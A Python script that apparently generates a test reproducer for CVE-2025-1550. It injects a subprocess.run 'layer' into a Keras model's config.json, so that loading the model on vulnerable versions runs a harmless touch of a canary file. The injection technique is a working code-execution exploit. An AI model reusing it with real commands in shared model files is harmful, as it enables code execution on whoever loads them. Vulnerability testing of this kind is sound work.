"""Writes the CVE-2025-1550 reproducer: a small functional model saved by the running Keras 3, whose config.json
then gets a first "layer" that is subprocess.run, called with ["touch", <canary>] when the model is rebuilt.
Keras 3.0-3.8 import `subprocess` and run it; 3.9+ refuse. Usage: python make_config_canary.py <out.keras> <canary>."""

import json
import sys
import zipfile

import keras


def main():
    target, canary = sys.argv[1], sys.argv[2]
    inputs = keras.Input(shape=(3,), name="x")
    outputs = keras.layers.Dense(2, name="dense")(inputs)
    base = target + ".base.keras"
    keras.Model(inputs, outputs, name="victim").save(base)
    with zipfile.ZipFile(base) as source:
        config = json.loads(source.read("config.json"))
        config["config"]["layers"].insert(0, {
            "module": "subprocess", "class_name": "run", "config": {}, "registered_name": None, "name": "run",
            "inbound_nodes": [{"args": [["touch", canary]], "kwargs": {}}],
        })
        with zipfile.ZipFile(target, "w") as out:
            for name in source.namelist():
                out.writestr(name, json.dumps(config) if name == "config.json" else source.read(name))


if __name__ == "__main__":
    main()
